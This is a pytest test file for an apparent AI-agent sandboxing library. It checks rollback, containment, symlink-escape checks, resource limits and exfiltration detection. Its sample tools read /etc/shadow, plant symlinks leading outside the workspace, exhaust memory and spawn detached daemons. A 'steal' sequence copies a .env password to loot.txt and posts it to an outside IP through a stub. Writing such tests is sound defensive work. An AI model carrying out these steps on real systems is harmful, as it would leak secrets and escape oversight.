"""The safe agent with real sandboxes: what succeeds is kept, what fails is undone, an attack back to its start."""

from __future__ import annotations

import gc
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from ringfence import IsolationLevel, ResourceLimits, SandboxConfig, SandboxMode
from ringfence.errors import AttackError, CheckpointError, ConflictError, SupervisionError
from ringfence.integrations.deep_agent import Commit, SafeConfig, SafeDeepAgent, verify_audit

pytestmark = [pytest.mark.privileges, pytest.mark.unmeasured]

ROOT = Path(__file__).resolve().parents[2]
LEVELS = (IsolationLevel.STRICT, IsolationLevel.PROCESS)
LIMITS = ResourceLimits(max_execution_time=60, max_file_operations=100_000, max_memory_mb=256)
SECRET = "hunter2-is-the-password"


# ---- tools


def write_file(path: str, text: str) -> int:
    with open(path, "w") as file:
        file.write(text)
    return os.getpid()


def read_file(path: str) -> str:
    with open(path) as file:
        return file.read()


def copy_file(source: str, target: str) -> str:
    text = read_file(source)
    write_file(target, text)
    return text


def execute_badly(path: str) -> None:
    with open(path, "w") as file:
        file.write("half")
    raise RuntimeError(f"could not finish {path}")


def execute_and_pry(path: str) -> str:
    """Works, and asks for a hidden file on the way."""
    with open(path, "w") as file:
        file.write("pried")
    try:
        with open("/etc/shadow") as file:
            return file.read()
    except OSError as error:
        return type(error).__name__


def execute_hog(path: str) -> None:
    with open(path, "w") as file:
        file.write("half")
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * 2**24))


def execute_daemon(marker: str) -> None:
    import subprocess
    import sys

    code = "import sys, time; print(1, flush=True); time.sleep(600)"
    child = subprocess.Popen([sys.executable, "-I", "-c", code, marker], stdout=subprocess.PIPE, start_new_session=True)
    assert child.stdout is not None
    child.stdout.readline()


def execute_link(path: str, target: str) -> None:
    os.symlink(target, path)


def execute_links(pairs: dict[str, str]) -> None:
    for path, target in pairs.items():
        os.symlink(target, path)


def http_post(url: str, body: str) -> str:
    return f"posted by {os.getpid()}"


TOOLS = [
    write_file, read_file, copy_file, execute_badly, execute_and_pry, execute_hog, execute_daemon,
    execute_link, execute_links, http_post,
]  # fmt: skip


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".env").write_text(f"PASSWORD={SECRET}\n")
    (repo / "notes.txt").write_text("old\n")
    monkeypatch.chdir(repo)
    return repo


@pytest.fixture(params=LEVELS)
def level(request: pytest.FixtureRequest) -> IsolationLevel:
    return request.param


def agent(repo: Path, level: IsolationLevel = IsolationLevel.STRICT, **more: Any) -> SafeDeepAgent:
    sandbox = SandboxConfig(
        isolation_level=level, allowed_paths=[repo], sandbox_root=repo.parent / "s", resource_limits=LIMITS
    )
    config = {name: more.pop(name) for name in list(more) if name in SafeConfig.__dataclass_fields__}
    return SafeDeepAgent(TOOLS, safe_config=SafeConfig(sandbox=sandbox, **config), **more)


def events(made: SafeDeepAgent) -> list[dict[str, Any]]:
    verify_audit(made.audit.path)
    return [json.loads(line) for line in Path(made.audit.path).read_text().splitlines()]


def sandboxes(repo: Path) -> list[str]:
    return [name for name in os.listdir(repo.parent / "s") if name != "audit.jsonl"]


# ---- use case 1: risky code in a sandbox; success is committed, anything else rolled back


def test_what_a_risky_call_changed_is_committed_when_it_succeeds(repo: Path, level: IsolationLevel) -> None:
    with agent(repo, level, commit=Commit.EACH_CALL) as made:
        result = made.run_tool("write_file", path="notes.txt", text="new\n")
        assert result.success and result.sandboxed and result.value != os.getpid()
        assert result.committed == (str(repo / "notes.txt"),) and (repo / "notes.txt").read_text() == "new\n"
        assert made.run_tool("read_file", path="notes.txt").value == "new\n"
    begin, end = events(made)[:2]
    assert (begin["event"], begin["sandboxed"], begin["risk_score"]) == ("begin", True, 0.55)
    assert (end["event"], end["success"], end["status"]) == ("end", True, "OK")
    assert end["committed"] == [str(repo / "notes.txt")] and end["usage"]["wall_s"] > 0
    assert sandboxes(repo) == []


def test_a_call_that_fails_is_rolled_back_and_its_error_is_a_value(repo: Path, level: IsolationLevel) -> None:
    with agent(repo, level, commit=Commit.EACH_CALL) as made:
        result = made.run_tool("execute_badly", path="notes.txt")
        assert not result.success and result.error == "RuntimeError: could not finish notes.txt"
        assert result.rolled_back and result.changed == () and result.committed == ()
        assert made.run_tool("write_file", path="b.txt", text="b").committed == (str(repo / "b.txt"),)
    assert (repo / "notes.txt").read_text() == "old\n"
    assert not events(made)[1]["success"] and events(made)[1]["rolled_back"]


def test_the_same_call_without_a_sandbox_leaves_its_damage(repo: Path) -> None:
    """The control of the test above."""
    with agent(repo, enable_sandboxing=False) as made:
        assert not made.run_tool("execute_badly", path="notes.txt").success
    assert (repo / "notes.txt").read_text() == "half"


def test_a_call_that_tried_something_forbidden_is_rolled_back_though_it_returned(repo: Path) -> None:
    with agent(repo) as made:
        result = made.run_tool("execute_and_pry", path="notes.txt")
    assert not result.success and result.rolled_back
    assert any("/etc/shadow" in violation for violation in result.violations)
    assert (repo / "notes.txt").read_text() == "old\n"
    assert any("/etc/shadow" in violation for violation in events(made)[1]["violations"])


# ---- links: a tool that runs outside would follow what a sandboxed one has left


def test_a_link_that_leads_out_is_undone_with_the_call_that_made_it(repo: Path, level: IsolationLevel) -> None:
    (repo.parent / "private.txt").write_text("private")
    targets = {"out": "../private.txt", "far": "/etc/hostname", "in": "notes.txt", "deep": "sub/../notes.txt"}
    with agent(repo, level) as made:
        done = {name: made.run_tool("execute_link", path=name, target=target) for name, target in targets.items()}
    for name in ("out", "far"):
        assert done[name].rolled_back and "points outside the allowed paths" in done[name].violations[0]
        assert not os.path.lexists(repo / name)
    for name in ("in", "deep"):
        assert done[name].success and os.readlink(repo / name) == targets[name]


def test_a_link_that_goes_up_behind_another_is_undone_too(repo: Path, level: IsolationLevel) -> None:
    """By its text it stays inside. ``here`` alone does, by any reading."""
    (repo.parent / "private.txt").write_text("private")
    with agent(repo, level, commit=Commit.EACH_CALL) as made:
        both = made.run_tool("execute_links", pairs={"here": ".", "out": "here/../private.txt"})
        assert not both.success and "points outside the allowed paths" in both.violations[0]
        assert made.run_tool("execute_links", pairs={"here": ".", "in": "notes.txt"}).success
        later = made.run_tool("execute_links", pairs={"out": "here/../private.txt"})
        assert not later.success and not os.path.lexists(repo / "out")
        looked = made.run_tool("read_file", path="here/../private.txt")
        assert looked.sandboxed and not looked.success  # a path that stays inside is read outside of the sandbox
        assert not made.run_tool("read_file", path="here/notes.txt").sandboxed


def test_no_later_link_has_an_earlier_one_lead_out(repo: Path, level: IsolationLevel) -> None:
    """The first leads inside as long as ``sub`` is a directory, or nothing."""
    (repo.parent / "private.txt").write_text("private")
    with agent(repo, level, commit=Commit.EACH_CALL) as made:
        assert made.run_tool("execute_links", pairs={"bent": "sub/../private.txt"}).success
        later = made.run_tool("execute_links", pairs={"sub": "."})
        assert not later.success and "through another link" in later.violations[0]
        (repo / "sub").symlink_to(".")  # as if it had come in between the look and the commit
        with pytest.raises(SupervisionError, match="pointed outside"):
            made.sandbox.remove_links_out((str(repo / "sub"),))
    assert not os.path.lexists(repo / "sub") and os.path.lexists(repo / "bent")


def test_it_is_kept_where_no_tool_runs_outside(repo: Path) -> None:
    """The control of the test above, and for those who make virtual environments."""
    with agent(repo, sandbox_mode=SandboxMode.ALWAYS) as made:
        assert made.run_tool("execute_link", path="out", target="/etc/hostname").success
    assert os.readlink(repo / "out") == "/etc/hostname"


def test_a_link_that_came_in_during_the_commit_is_removed_again(repo: Path) -> None:
    with agent(repo) as made:
        (repo / "out").symlink_to("/etc/hostname")
        (repo / "in").symlink_to("notes.txt")
        with pytest.raises(SupervisionError, match="pointed outside"):
            made.sandbox.remove_links_out((str(repo / "in"), str(repo / "out")))
    assert not os.path.lexists(repo / "out") and os.path.lexists(repo / "in") and os.path.lexists("/etc/hostname")


# ---- use case 3: limits


def test_a_call_that_takes_too_much_is_ended_rolled_back_and_told(repo: Path) -> None:
    with agent(repo) as made:
        result = made.run_tool("execute_hog", path="notes.txt")
        assert not result.success and result.rolled_back
        assert result.execution is not None and result.execution.outcome is not None
        if "cgroup" in result.execution.outcome.enforced["memory"].by:  # else it may be its own MemoryError
            assert "memory" in str(result.violations)
        assert made.run_tool("read_file", path="notes.txt").value == "old\n"  # the agent goes on
    assert (repo / "notes.txt").read_text() == "old\n"


# ---- use case 2: an attack


def steal(made: SafeDeepAgent) -> Any:
    """Good work, then a secret is laid aside, then something harmless, then something is to be sent."""
    assert made.run_tool("write_file", path="good.txt", text="good").success
    assert SECRET in made.run_tool("copy_file", source=".env", target="loot.txt").value
    assert made.run_tool("read_file", path="notes.txt").success
    return made.run_tool("http_post", url="http://198.51.100.7/", body="loot")


def test_an_attack_is_undone_to_where_it_began_and_stops_the_agent(repo: Path, level: IsolationLevel) -> None:
    with agent(repo, level, commit=Commit.ON_REQUEST, sandbox_mode=SandboxMode.ALWAYS) as made:
        with pytest.raises(AttackError, match=r"call 2 \(copy_file\) named \.env"):
            steal(made)
        assert made.sandbox.changed() == (str(repo / "good.txt"),)
        with pytest.raises(AttackError, match="not run"):
            made.run_tool("read_file", path="notes.txt")
        assert sorted(os.listdir(repo)) == [".env", "notes.txt"]
        made.reset()
        assert made.run_tool("write_file", path="again.txt", text="x").success
        assert made.commit() == (str(repo / "again.txt"),)
    assert sorted(os.listdir(repo)) == [".env", "again.txt", "notes.txt"]
    told = {entry["event"]: entry for entry in events(made)}
    assert told["attack"]["patterns"] == ["exfiltration"] and told["rollback"]["rollback_type"] == "full"
    assert SECRET not in Path(made.audit.path).read_text()
    assert sandboxes(repo) == []


def test_the_same_calls_run_to_their_end_where_nobody_detects(repo: Path) -> None:
    """The control of the test above."""
    with agent(repo, detect=lambda history, call: []) as made:
        result = steal(made)
        assert result.success and result.sandboxed and result.value.startswith("posted by")
    assert SECRET in (repo / "loot.txt").read_text()


def test_an_attack_ends_what_runs_in_the_background(repo: Path) -> None:
    marker = f"marker-{os.urandom(8).hex()}"
    with agent(repo, commit=Commit.ON_REQUEST) as made:
        assert made.run_tool("execute_daemon", marker=marker).success
        assert made.run_tool("read_file", path=".env").success
        assert running(marker)  # control: it goes on while there is no attack
        with pytest.raises(AttackError):
            made.run_tool("http_post", url="http://198.51.100.7/", body="x")
        assert not running(marker)


def running(marker: str) -> bool:
    commands = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            commands.append(Path(f"/proc/{pid}/cmdline").read_bytes())
        except OSError:
            continue  # it has ended
    return any(marker.encode() in command for command in commands)


def test_an_attack_after_commits_drops_what_is_left_and_says_so(repo: Path) -> None:
    with agent(repo, commit=Commit.EACH_CALL) as made:
        with pytest.raises(AttackError):
            steal(made)
        assert made.sandbox.changed() == ()
    assert (repo / "loot.txt").exists()  # what was committed stays: that is what AT_END is for
    assert "rollback" in [entry["event"] for entry in events(made)]


def test_an_attack_is_found_also_between_calls_in_and_outside_the_sandbox(repo: Path) -> None:
    """A risk function that finds nothing risky runs reading outside; the detector sees it all the same."""
    with agent(repo, risk=lambda call: 0.0, sandbox_mode=SandboxMode.NEVER) as made:
        assert not made.run_tool("read_file", path=str(repo / ".env")).sandboxed
        with pytest.raises(AttackError):
            made.run_tool("http_post", url="http://198.51.100.7/", body="x")


# ---- the default: kept at the end of a session without an attack


def test_by_default_a_session_without_an_attack_ends_in_a_commit(repo: Path, level: IsolationLevel) -> None:
    with agent(repo, level) as made:
        assert made.run_tool("write_file", path="notes.txt", text="new\n").success
        changed = made.run_tool("write_file", path="a.txt", text="a").changed
        assert changed == (str(repo / "a.txt"), str(repo / "notes.txt"))
        assert (repo / "notes.txt").read_text() == "old\n"
    assert (repo / "notes.txt").read_text() == "new\n" and (repo / "a.txt").read_text() == "a"
    assert events(made)[-1]["event"] == "commit" and sandboxes(repo) == []


def test_by_default_an_attack_restores_everything(repo: Path, level: IsolationLevel) -> None:
    before = {name: (repo / name).read_text() for name in os.listdir(repo)}
    with agent(repo, level) as made:
        assert made.run_tool("write_file", path="notes.txt", text="spoilt").success
        with pytest.raises(AttackError):
            steal(made)
    assert {name: (repo / name).read_text() for name in os.listdir(repo)} == before
    assert events(made)[-1]["event"] == "dropped" and sandboxes(repo) == []


def test_an_exception_that_leaves_the_session_keeps_nothing(repo: Path) -> None:
    with pytest.raises(RuntimeError), agent(repo) as made:
        made.run_tool("write_file", path="notes.txt", text="new\n")
        raise RuntimeError
    assert (repo / "notes.txt").read_text() == "old\n" and sandboxes(repo) == []


def test_a_reset_without_an_attack_ends_the_session_well(repo: Path) -> None:
    with agent(repo) as made:
        made.run_tool("write_file", path="notes.txt", text="new\n")
        made.reset()
        assert (repo / "notes.txt").read_text() == "new\n"


def test_what_can_not_be_committed_at_the_end_stays_on_disk(repo: Path) -> None:
    made = agent(repo)
    made.run_tool("write_file", path="notes.txt", text="mine\n")
    (repo / "notes.txt").write_text("theirs\n")
    with pytest.raises(ConflictError) as raised:
        made.close()
    (kept,) = sandboxes(repo)
    assert kept in raised.value.hint and (repo / "notes.txt").read_text() == "theirs\n"
    assert "+mine" in made.manager.diff(made.manager.attach(kept))
    made.manager.close()


def test_a_tool_that_would_run_outside_sees_what_the_session_changed(repo: Path) -> None:
    with agent(repo, risk=lambda call: 0.9 if call.tool == "write_file" else 0.1) as made:
        assert not made.run_tool("read_file", path="notes.txt").sandboxed  # control
        made.run_tool("write_file", path="notes.txt", text="new\n")
        for name in ("notes.txt", str(repo / "notes.txt"), "./notes.txt"):
            result = made.run_tool("read_file", path=name)
            assert result.sandboxed and result.value == "new\n"
        assert not made.run_tool("read_file", path=".env").sandboxed


def test_an_agent_that_nobody_closes_says_where_its_changes_are(repo: Path) -> None:
    made = agent(repo)
    made.run_tool("write_file", path="notes.txt", text="new\n")
    manager = made.manager
    with pytest.warns(UserWarning, match="attach"):
        del made
        gc.collect()
    manager.close()


# ---- keeping


def test_a_sandbox_that_somebody_else_has_destroyed_stops_neither_containment_nor_reset(repo: Path) -> None:
    with agent(repo, commit=Commit.ON_REQUEST) as made:
        made.run_tool("read_file", path=".env")
        made.manager.destroy_sandbox(made.sandbox.sandbox_id)
        with pytest.raises(AttackError):
            made.run_tool("http_post", url="http://198.51.100.7/", body="x")
        assert made.halted and [each["event"] for each in events(made)][-2:] == ["attack", "rollback"]
        made.reset()
        made.run_tool("write_file", path="notes.txt", text="x")
        made.manager.destroy_sandbox(made.sandbox.sandbox_id)
        made.reset()
        assert made.run_tool("write_file", path="notes.txt", text="x").success


def test_nothing_is_kept_before_it_is_asked_for(repo: Path) -> None:
    with agent(repo, commit=Commit.ON_REQUEST) as made:
        made.run_tool("write_file", path="notes.txt", text="new\n")
        assert (repo / "notes.txt").read_text() == "old\n" and "+new" in made.diff()
        assert made.commit() == (str(repo / "notes.txt"),)
        assert (repo / "notes.txt").read_text() == "new\n" and made.diff() == ""
        made.run_tool("write_file", path="notes.txt", text="dropped\n")
    assert (repo / "notes.txt").read_text() == "new\n"


@pytest.mark.parametrize(
    ("commit", "mode"), [(Commit.EACH_CALL, SandboxMode.AUTO), (Commit.AT_END, SandboxMode.ALWAYS)]
)
def test_what_can_not_be_kept_is_a_result_and_the_agent_goes_on(repo: Path, commit: Commit, mode: SandboxMode) -> None:
    def execute_deep() -> None:
        for _ in range(600):
            os.mkdir("d")
            os.chdir("d")

    with agent(repo, commit=commit, sandbox_mode=mode) as made:
        made.tools["execute_deep"] = execute_deep
        results = [made.run_tool("execute_deep"), made.run_tool("write_file", path="a.txt", text="a")]
        assert [each.rolled_back for each in results].count(True) == 1
        assert any("can't be kept" in str(each.error) for each in results)
        assert made.run_tool("write_file", path="b.txt", text="b").success and "/d" not in str(made.sandbox.changed())


@pytest.mark.parametrize("put", [False, True], ids=["the control", "a pipe in its place"])
def test_a_removal_that_is_committed_is_in_the_log(repo: Path, put: bool) -> None:
    def execute_removal() -> None:
        os.unlink("notes.txt")
        if put:
            os.mkfifo("notes.txt")

    with agent(repo, commit=Commit.AT_END, sandbox_mode=SandboxMode.ALWAYS) as made:
        made.tools["execute_removal"] = execute_removal
        made.run_tool("execute_removal")
    assert not os.path.lexists(repo / "notes.txt")
    assert [entry["paths"] for entry in events(made) if entry["event"] == "commit"] == [[str(repo / "notes.txt")]]


def test_a_sandbox_that_can_not_be_made_is_no_result_of_the_tool(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise CheckpointError("no room")

    with agent(repo) as made, pytest.raises(CheckpointError, match="no room"):
        monkeypatch.setattr(made.manager, "create_sandbox", broken)
        made.run_tool("write_file", path="a.txt", text="a")


def test_a_conflict_of_one_call_is_its_result_and_not_the_next_ones(repo: Path) -> None:
    def execute_meanwhile() -> None:
        with open("notes.txt", "w") as file:
            file.write("mine")

    with agent(repo, commit=Commit.EACH_CALL) as made:
        made.tools["execute_meanwhile"] = execute_meanwhile
        assert made.run_tool("write_file", path="notes.txt", text="first").success
        keep = made._keep
        made._keep = lambda: ((repo / "notes.txt").write_text("theirs"), keep())[1]  # type: ignore[method-assign]
        lost = made.run_tool("execute_meanwhile")
        assert not lost.success and lost.rolled_back and "notes.txt" in str(lost.error)
        made._keep = keep  # type: ignore[method-assign]
        assert made.run_tool("write_file", path="other.txt", text="x").success
    assert (repo / "notes.txt").read_text() == "theirs"


def test_somebody_elses_change_is_never_overwritten(repo: Path) -> None:
    with agent(repo, commit=Commit.ON_REQUEST) as made:
        made.run_tool("write_file", path="notes.txt", text="mine\n")
        (repo / "notes.txt").write_text("theirs\n")
        with pytest.raises(ConflictError, match=r"notes\.txt"):
            made.commit()
    assert (repo / "notes.txt").read_text() == "theirs\n"


# ---- the end of the caller

KILLED = """
import os, sys
sys.path.insert(0, sys.argv[1])
os.chdir(sys.argv[2])
from pathlib import Path
import test_safe_agent as door
with door.agent(Path(sys.argv[2]), commit=door.Commit.EACH_CALL) as agent:
    agent.run_tool("write_file", path="a.txt", text="a")
    print("ready", flush=True)
    agent.tools["execute_daemon"] = lambda marker: __import__("time").sleep(600)
    agent.run_tool("execute_daemon", marker="x")
"""


def test_a_killed_agent_leaves_a_log_that_says_what_was_begun(repo: Path) -> None:
    command = [sys.executable, "-c", KILLED, str(Path(__file__).parent), str(repo)]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as other:
        assert other.stdout is not None and other.stdout.readline() == b"ready\n"
        log = repo.parent / "s" / "audit.jsonl"
        while log.read_bytes().count(b"\n") < 3:
            time.sleep(0.01)
        os.kill(other.pid, signal.SIGKILL)
    with agent(repo) as made:
        assert made.run_tool("read_file", path="a.txt").value == "a"
        told = [(entry["event"], entry["tool"]) for entry in events(made)]
    assert told[:3] == [("begin", "write_file"), ("end", "write_file"), ("begin", "execute_daemon")]
    assert ("end", "execute_daemon") not in told


# ---- the demonstration


def test_the_demonstration_shows_the_three_use_cases(tmp_path: Path) -> None:
    program = str(ROOT / "examples" / "foundation4_sandbox_demo.py")
    command = [sys.executable, program, "--fast", "--folder", str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    acts = [act.splitlines() for act in done.stdout.split("\n\n")[1:]]
    said = [{line[5:17].strip(): line[18:] for line in act if line.startswith("     ")} for act in acts]
    before = [".env", "analysis.py", "busy.py", "data.csv", "hungry.py"]
    after = {name: sorted(os.listdir(tmp_path / name)) for name in ("act-1", "act-2", "act-3")}

    assert said[0]["risk"] == "0.85 → sandbox" and said[0]["committed"] == "report.txt"
    assert after["act-1"] == sorted([*before, "report.txt"]) == said[0]["after"].split()
    assert (tmp_path / "act-1" / "report.txt").read_text() == "mean 3.0\n"

    assert said[1]["✗ attack"] == "call 2 (read_file) named .env, then the tool 'http_post'"
    assert said[1]["rolled back"] == "full, paths restored: 1"
    assert said[1]["in sandbox"] == "todo.txt" and said[1]["agent"] == "stands still until reset()"
    assert after["act-2"] == before == said[1]["after"].split()

    assert done.stdout.count("✗ ended") == 2 and said[2]["rolled back"] == "yes"
    assert after["act-3"] == before == said[2]["after"].split()

    assert verify_audit(tmp_path / "audit.jsonl").count == 16 and said[3]["secret"] == "nowhere in it"
    assert said[3]["forged copy"].startswith("found: record")
    assert os.listdir(tmp_path / "sandboxes") == []
